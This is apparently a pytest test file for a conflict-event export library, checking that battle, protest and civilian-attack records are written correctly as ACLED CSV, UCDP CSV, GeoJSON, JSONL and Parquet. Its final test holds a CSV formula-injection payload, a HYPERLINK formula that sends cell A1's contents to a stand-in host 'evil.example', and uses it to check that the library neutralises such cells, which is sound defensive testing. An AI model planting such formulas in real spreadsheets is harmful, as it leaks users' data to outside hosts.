import csv
import io
import json
import logging
import sys
import tomllib
from dataclasses import replace

import pytest

from warta import codec, export
from warta.export import ACLED_COLUMNS, UCDP_COLUMNS
from warta.export.ucdp import priogrid_gid
from warta.model import (
    ActorRef,
    Claim,
    Event,
    Evidence,
    Fatalities,
    Join,
    Location,
    MergedEvent,
    Source,
)

IS = ActorRef("Islamic State", "rebel_group", "ISIS")
SAA = ActorRef("Military Forces of Syria", "state_forces", "SAA")
NDF = ActorRef("Pro-government militias (Syria)", "political_militia")
AMAQ = ActorRef("Amaq")


def _evidence(text: str, doc: str) -> Evidence:
    return Evidence(0, len(text), text, document_id=doc)


def battle() -> MergedEvent:
    """The Jabal Bishri ambush as two outlets reported it: a boast and a lumped toll."""
    claims = (
        Claim("killed", 20, "exact", IS, _evidence("IS said 20 killed", "doc-a"), via=AMAQ,
              boast=True, document_id="doc-a"),
        Claim("killed", 12, "at_least", ActorRef("pro-regime social media"),
              _evidence("at least a dozen killed or missing", "doc-b"), document_id="doc-b",
              also=("missing",)),
    )  # fmt: skip
    event = Event(
        id="5e1f0c9a2b7d4411",
        event_type="Battles",
        sub_event_type="Armed clash",
        date="2019-04-11",
        date_end="2019-04-11",
        date_precision="day",
        location=Location("Jabal Bishri", "SY", "Deir ez-Zor", None, 35.37, 39.3, 2, "near"),
        actor1=IS,
        actor2=SAA,
        assoc_actor2=(NDF,),
        fatalities=Fatalities(20, 20, 20),
        evidence=(_evidence("ambushed the rescue force", "doc-a"),),
        claims=claims,
        confidence=0.85,
        fatality_policy="claims-range.v1",
    )
    sources = (
        Source("doc-a", "wartaperang", None, "ISIS sergap pasukan", "2019-04-15", "id"),
        Source("doc-b", "Enab Baladi", "https://example.org/b", "IS ambush", "2019-04-16T08:00:00Z", "en"),
    )  # fmt: skip
    why = Join("doc-b#e7", "doc-a#e1", "violent", 0, 12.0, ("Islamic State",))
    return MergedEvent(event, sources, ("doc-a#e1", "doc-b#e7"), (why,))


def protest() -> MergedEvent:
    event = Event(
        id="7a4e2d9c0b13aa01",
        event_type="Protests",
        sub_event_type="Peaceful protest",
        date="2019-05-21",
        date_end="2019-05-21",
        date_precision="day",
        location=Location("Jakarta", "ID", "DKI Jakarta", None, -6.2, 106.8167, 1, "at"),
        actor1=ActorRef("Protesters (Indonesia)", "protesters"),
        actor2=None,
        fatalities=None,
        evidence=(),
    )
    return MergedEvent(event, (Source("doc-c", "Kompas"),), ("doc-c#e1",))


TEWAS = _evidence("tiga warga tewas", "doc-d")


def attack_on_civilians() -> MergedEvent:
    """Police killing civilians, coded with the civilians in the first column."""
    event = Event(
        id="c0ffee0000000001",
        event_type="Violence against civilians",
        sub_event_type="Attack",
        date="2019-09-01",
        date_end="2019-09-30",
        date_precision="month",
        location=Location("Wamena", "ID", "Papua", "Jayawijaya", -4.0956, 138.9481, 1, "at"),
        actor1=ActorRef("Civilians (Indonesia)", "civilians"),
        actor2=ActorRef("Police Forces of Indonesia", "state_forces"),
        fatalities=Fatalities(3, 3, 5),
        evidence=(),
        claims=(Claim("killed", 3, "exact", None, TEWAS, document_id="doc-d"),),
    )
    return MergedEvent(event, (Source("doc-d", None, "https://example.org/d"),), ("doc-d#e2",))


def unplaced_clash() -> MergedEvent:
    """Two non-state groups fighting at a place the gazetteer could not put on the map."""
    event = Event(
        id="ffff000011112222",
        event_type="Battles",
        sub_event_type="Armed clash",
        date="2019-04-08",
        date_end="2019-04-14",
        date_precision="week",
        location=Location("al-Kawm", "SY", None, None, None, None, None, "at"),
        actor1=ActorRef("Hayat Tahrir al-Sham", "rebel_group"),
        actor2=ActorRef("Hurras al-Din", "rebel_group"),
        fatalities=None,
        evidence=(),
    )
    return MergedEvent(event, (Source("doc-e", "SOHR"),), ("doc-e#e1",))


def events() -> list[MergedEvent]:
    return [battle(), protest(), attack_on_civilians(), unplaced_clash()]


def exported(fmt: str, records: list[MergedEvent] | None = None) -> tuple[int, str]:
    out = io.StringIO()
    n = export.write(records if records is not None else events(), fmt, out)
    return n, out.getvalue()


def test_acled_csv_header_is_acleds_column_names_in_acleds_order():
    _, text = exported("acled-csv")
    assert text.splitlines()[0] == (
        "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,"
        "actor1,assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,civilian_targeting,"
        "iso,region,country,admin1,admin2,admin3,location,latitude,longitude,geo_precision,"
        "source,source_scale,notes,fatalities,tags,timestamp"
    )
    assert tuple(text.splitlines()[0].split(",")) == ACLED_COLUMNS


def test_acled_row_of_a_battle_codes_actors_place_sources_and_notes():
    row = export.acled_row(battle())
    assert row == {
        "event_id_cnty": "SYR103487448427389",
        "event_date": "2019-04-11",
        "year": "2019",
        "time_precision": "1",
        "disorder_type": "Political violence",
        "event_type": "Battles",
        "sub_event_type": "Armed clash",
        "actor1": "Islamic State",
        "assoc_actor_1": "",
        "inter1": "2",
        "actor2": "Military Forces of Syria",
        "assoc_actor_2": "Pro-government militias (Syria)",
        "inter2": "1",
        "interaction": "12",
        "civilian_targeting": "",
        "iso": "760",
        "region": "Middle East",
        "country": "Syria",
        "admin1": "Deir ez-Zor",
        "admin2": "",
        "admin3": "",
        "location": "Jabal Bishri",
        "latitude": "35.37",
        "longitude": "39.3",
        "geo_precision": "2",
        "source": "wartaperang; Enab Baladi",
        "source_scale": "",
        "notes": (
            "On 11 April 2019, Islamic State clashed with Military Forces of Syria near Jabal"
            " Bishri (Deir ez-Zor). Islamic State (via Amaq) claimed 20 killed; pro-regime"
            " social media claimed at least 12 killed or missing."
        ),
        "fatalities": "20",
        "tags": "",
        "timestamp": "1555372800",
    }


def test_protest_with_no_second_actor_codes_inter2_zero_and_interaction_60():
    row = export.acled_row(protest())
    assert (row["inter1"], row["inter2"], row["interaction"]) == ("6", "0", "60")
    assert row["disorder_type"] == "Demonstrations"
    assert row["civilian_targeting"] == ""
    assert row["notes"] == (
        "On 21 May 2019, Protesters (Indonesia) held a peaceful protest in Jakarta (DKI Jakarta)."
    )


def test_unknown_fatalities_are_coded_zero_as_acled_does():
    assert export.acled_row(protest())["fatalities"] == "0"


def test_violence_against_civilians_is_civilian_targeting_with_interaction_lowest_first():
    row = export.acled_row(attack_on_civilians())
    assert (row["inter1"], row["inter2"], row["interaction"]) == ("7", "1", "17")
    assert row["civilian_targeting"] == "Civilian targeting"
    assert row["time_precision"] == "3"
    assert row["source"] == "doc-d"  # no outlet: the document id stands in
    assert row["notes"] == (  # civilians are never the side that acts, whichever column
        "In September 2019, Police Forces of Indonesia attacked Civilians (Indonesia)"
        " in Wamena (Papua). An unattributed report gave 3 killed."
    )


def test_an_actor_of_unknown_category_leaves_inter_and_interaction_empty():
    merged = battle()
    unknown = replace(merged, event=replace(merged.event, actor2=ActorRef("Gunmen")))
    row = export.acled_row(unknown)
    assert (row["inter1"], row["inter2"], row["interaction"]) == ("2", "", "")


def test_notes_without_date_actors_or_place_still_make_a_sentence():
    event = Event("00", "Battles", "Armed clash", None, None, None, None, None, None, None, ())
    assert export.notes(MergedEvent(event, (), ())) == "An armed clash took place."


def test_acled_csv_loads_with_the_csv_module():
    n, text = exported("acled-csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert n == len(rows) == 4
    assert [r["event_id_cnty"][:3] for r in rows] == ["SYR", "IDN", "IDN", "SYR"]
    assert rows[0]["notes"].endswith("at least 12 killed or missing.")
    assert rows[3]["latitude"] == rows[3]["longitude"] == ""


def test_acled_csv_loads_with_pandas_with_the_exact_header():
    pd = pytest.importorskip("pandas")
    _, text = exported("acled-csv")
    frame = pd.read_csv(io.StringIO(text))
    assert tuple(frame.columns) == ACLED_COLUMNS
    assert list(frame["interaction"]) == [12, 60, 17, 22]
    assert list(frame["fatalities"]) == [20, 0, 3, 0]


def test_geojson_features_are_points_in_lon_lat_order_and_the_unplaced_event_is_absent(caplog):
    with caplog.at_level(logging.WARNING, logger="warta.export"):
        n, text = exported("geojson")
    collection = json.loads(text)
    assert collection["type"] == "FeatureCollection"
    features = collection["features"]
    assert n == len(features) == 3
    assert all(f["type"] == "Feature" and f["geometry"]["type"] == "Point" for f in features)
    by_id = {f["id"]: f for f in features}
    assert by_id["5e1f0c9a2b7d4411"]["geometry"]["coordinates"] == [39.3, 35.37]
    assert by_id["7a4e2d9c0b13aa01"]["geometry"]["coordinates"] == [106.8167, -6.2]
    assert "ffff000011112222" not in by_id
    assert "1 of 4 events have no coordinates" in caplog.text


def test_geojson_properties_carry_type_dates_place_actors_fatalities_and_sources():
    props = export.geojson_feature(battle())["properties"]  # type: ignore[index]
    assert props["event_type"] == "Battles" and props["sub_event_type"] == "Armed clash"
    assert (props["date"], props["date_end"], props["date_precision"]) == (
        "2019-04-11",
        "2019-04-11",
        "day",
    )
    assert (props["location"], props["country"], props["admin1"], props["geo_precision"]) == (
        "Jabal Bishri",
        "SY",
        "Deir ez-Zor",
        2,
    )
    assert (props["actor1"], props["actor2"]) == ("Islamic State", "Military Forces of Syria")
    assert (props["fatalities_low"], props["fatalities_best"], props["fatalities_high"]) == (
        20,
        20,
        20,
    )
    assert props["sources"] == ["wartaperang", "Enab Baladi"]
    assert props["n_claims"] == 2


def test_geojson_of_no_events_is_an_empty_feature_collection():
    n, text = exported("geojson", [])
    assert n == 0
    assert json.loads(text) == {"type": "FeatureCollection", "features": []}


def test_jsonl_round_trips_through_codec_to_equal_records():
    records = events()
    n, text = exported("jsonl", records)
    lines = text.splitlines()
    assert n == len(lines) == 4
    assert [codec.from_dict(MergedEvent, json.loads(line)) for line in lines] == records


def test_ucdp_leaves_out_protests_riots_and_strategic_developments(caplog):
    with caplog.at_level(logging.INFO, logger="warta.export"):
        n, text = exported("ucdp-csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert n == len(rows) == 3
    assert "Protesters (Indonesia)" not in text
    assert "1 of 4 events are not violent" in caplog.text


def test_ucdp_header_is_geds_49_columns_in_order():
    _, text = exported("ucdp-csv")
    header = text.splitlines()[0].split(",")
    assert tuple(header) == UCDP_COLUMNS
    assert header[:6] == ["id", "relid", "year", "active_year", "code_status", "type_of_violence"]
    assert header[-5:] == ["best", "high", "low", "gwnoa", "gwnob"]


def test_ucdp_type_of_violence_is_1_state_based_2_non_state_3_one_sided():
    rows = {r["id"]: r for r in export.ucdp_rows(events())}
    assert rows["103487448427389"]["type_of_violence"] == "1"
    assert rows[str(int("ffff00001111", 16))]["type_of_violence"] == "2"
    assert rows[str(int("c0ffee000000", 16))]["type_of_violence"] == "3"


def test_ucdp_puts_the_state_on_side_a_and_the_civilians_on_side_b():
    battle_row = export.ucdp_row(battle())
    assert (battle_row["side_a"], battle_row["side_b"]) == (
        "Military Forces of Syria",
        "Islamic State",
    )
    one_sided = export.ucdp_row(attack_on_civilians())
    assert (one_sided["side_a"], one_sided["side_b"]) == (
        "Police Forces of Indonesia",
        "Civilians (Indonesia)",
    )
    assert one_sided["deaths_civilians"] == "3"
    assert (one_sided["best"], one_sided["high"], one_sided["low"]) == ("3", "5", "3")


def test_ucdp_row_fills_what_warta_knows_and_leaves_ucdp_identifiers_empty():
    row = export.ucdp_row(battle())
    assert row["year"] == "2019"
    assert (row["date_start"], row["date_end"], row["date_prec"]) == (
        "2019-04-11",
        "2019-04-11",
        "1",
    )
    assert (row["where_prec"], row["where_coordinates"], row["where_description"]) == (
        "2",
        "Jabal Bishri",
        "near Jabal Bishri",
    )
    assert (row["latitude"], row["longitude"], row["geom_wkt"]) == (
        "35.37",
        "39.3",
        "POINT (39.3 35.37)",
    )
    assert row["number_of_sources"] == "2"
    assert row["source_article"] == "doc-a; https://example.org/b"
    assert row["source_office"] == "wartaperang; Enab Baladi"
    assert row["source_original"] == "Islamic State (via Amaq); pro-regime social media"
    assert (row["country"], row["region"]) == ("Syria", "Middle East")
    for unknown in ("relid", "conflict_new_id", "dyad_new_id", "side_a_new_id", "country_id",
                    "deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown", "gwnoa"):  # fmt: skip
        assert row[unknown] == ""


def test_ucdp_date_prec_follows_the_range_and_precision():
    week = export.ucdp_row(unplaced_clash())
    month = export.ucdp_row(attack_on_civilians())
    assert (week["date_prec"], month["date_prec"]) == ("3", "4")
    assert (month["date_start"], month["date_end"]) == ("2019-09-01", "2019-09-30")


def test_priogrid_gid_follows_prio_numbering():
    assert priogrid_gid(10.51, 2.29) == 145085
    assert priogrid_gid(-90, -180) == 1
    assert priogrid_gid(90, 180) == 259200


def test_parquet_round_trips_with_typed_acled_columns_and_warta_extras():
    pq = pytest.importorskip("pyarrow.parquet")
    buffer = io.BytesIO()
    assert export.write(events(), "parquet", buffer) == 4
    table = pq.read_table(io.BytesIO(buffer.getvalue()))
    assert tuple(table.column_names) == (
        *ACLED_COLUMNS,
        "id",
        "date_end",
        "fatalities_low",
        "fatalities_high",
        "confidence",
        "review_status",
    )
    rows = table.to_pylist()
    assert {r["review_status"] for r in rows} == {"unreviewed"}
    assert [r["id"] for r in rows] == [m.event.id for m in events()]
    first = rows[0]
    assert first["event_id_cnty"] == "SYR103487448427389"
    assert str(first["event_date"]) == "2019-04-11"
    assert (first["inter1"], first["inter2"], first["interaction"]) == (2, 1, 12)
    assert (first["latitude"], first["longitude"]) == (35.37, 39.3)
    assert (first["fatalities_low"], first["fatalities"], first["fatalities_high"]) == (20, 20, 20)
    assert first["notes"] == export.acled_row(battle())["notes"]
    assert rows[3]["latitude"] is None and rows[3]["admin1"] is None


def test_parquet_writes_row_groups_of_the_batch_size():
    pq = pytest.importorskip("pyarrow.parquet")
    from warta.export.parquet import write_parquet

    buffer = io.BytesIO()
    assert write_parquet(events() * 3, buffer, batch_rows=5) == 12
    meta = pq.ParquetFile(io.BytesIO(buffer.getvalue())).metadata
    assert (meta.num_rows, meta.num_row_groups) == (12, 3)


def test_parquet_into_a_text_stream_is_refused():
    with pytest.raises(export.ExportError, match="binary"):
        export.write(events(), "parquet", io.StringIO())


def test_an_unknown_format_is_an_export_error_naming_the_choices():
    with pytest.raises(export.ExportError, match="'xlsx'.*acled-csv"):
        export.write(events(), "xlsx", io.StringIO())


def test_text_formats_write_utf8_into_a_binary_stream():
    buffer = io.BytesIO()
    merged = unplaced_clash()
    assert export.write([merged], "acled-csv", buffer) == 1
    assert not buffer.closed  # the caller's stream stays open
    assert "Hayat Tahrir al-Sham" in buffer.getvalue().decode("utf-8")


def test_exports_are_byte_for_byte_stable():
    for fmt in ("jsonl", "acled-csv", "ucdp-csv", "geojson"):
        assert exported(fmt)[1] == exported(fmt)[1]


def test_export_streams_writing_each_row_before_the_next_event_is_read():
    pulled = 0

    def lazily():
        nonlocal pulled
        for merged in events():
            pulled += 1
            yield merged

    pulled_at_write: list[int] = []

    class Watch(io.StringIO):
        def write(self, s: str) -> int:
            pulled_at_write.append(pulled)
            return super().write(s)

    export.write(lazily(), "acled-csv", Watch())
    assert pulled_at_write[:3] == [0, 1, 2]  # the header before any event, then a row each


def test_a_place_between_two_others_reads_between_both_and_is_geds_precision_5():
    merged = battle()
    between = Location("As Sukhnah – Deir ez-Zor", "SY", "Homs", None, 34.9, 39.4, 2, "between")
    merged = replace(merged, event=replace(merged.event, location=between))
    assert "clashed with Military Forces of Syria between As Sukhnah and Deir ez-Zor (Homs)." in (
        export.notes(merged)
    )
    row = export.ucdp_row(merged)
    assert (row["where_prec"], row["where_description"]) == (
        "5",
        "between As Sukhnah and Deir ez-Zor",
    )


def test_parquet_without_pyarrow_is_an_export_error_saying_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(export.ExportError, match="needs pyarrow"):
        export.write(events(), "parquet", io.BytesIO())


def test_every_sub_event_type_of_the_taxonomy_has_a_notes_form_and_a_disorder_type():
    from importlib import resources

    from warta.export.acled import disorder_type
    from warta.export.notes import FORMS

    taxonomy = tomllib.loads((resources.files("warta.data") / "taxonomy.toml").read_text("utf-8"))
    for event_type, sub_types in taxonomy["types"].items():
        for sub_type in sub_types:
            assert sub_type in FORMS, sub_type
            event = Event("00", event_type, sub_type, None, None, None, None, None, None, None, ())
            assert disorder_type(event), sub_type


def test_csv_cells_that_would_run_as_formulas_are_neutralised():
    """Issue 19.7: an outlet holding a spreadsheet formula is exported with a leading `'`
    in ACLED's `source` and UCDP's `source_office`; negative coordinates stay numbers."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    base = battle()
    outlets = (evil, "+1 cmd", "-2+3", "@SUM(A1)", "\tTab", "\rCR")
    sources = tuple(
        replace(base.sources[0], document_id=f"d{i}", outlet=o) for i, o in enumerate(outlets)
    )
    loc = replace(base.event.location, lat=-6.2, lon=-39.3)
    merged = replace(base, sources=sources, event=replace(base.event, location=loc))
    for fmt, column in (("acled-csv", "source"), ("ucdp-csv", "source_office")):
        _, text = exported(fmt, [merged])
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == 1
        cells = [c for row in rows for c in row.values() if c]
        assert not [c for c in cells if c[0] in "=+@\t\r" or (c[0] == "-" and not _number(c))]
        assert "'" + evil in rows[0][column], rows[0][column]
        assert [rows[0][c] for c in ("latitude", "longitude")] == ["-6.2", "-39.3"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
